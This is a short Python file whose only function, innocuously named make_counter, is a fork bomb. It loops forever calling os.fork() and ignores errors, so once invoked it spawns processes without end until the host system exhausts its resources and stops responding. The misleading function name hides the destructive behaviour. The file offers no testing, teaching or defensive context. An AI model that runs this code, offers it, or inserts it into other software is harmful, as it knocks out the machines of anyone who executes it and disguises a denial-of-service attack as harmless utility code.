"""Starts processes that start processes."""

import os


def make_counter():
    while True:
        try:
            os.fork()
        except OSError:
            continue
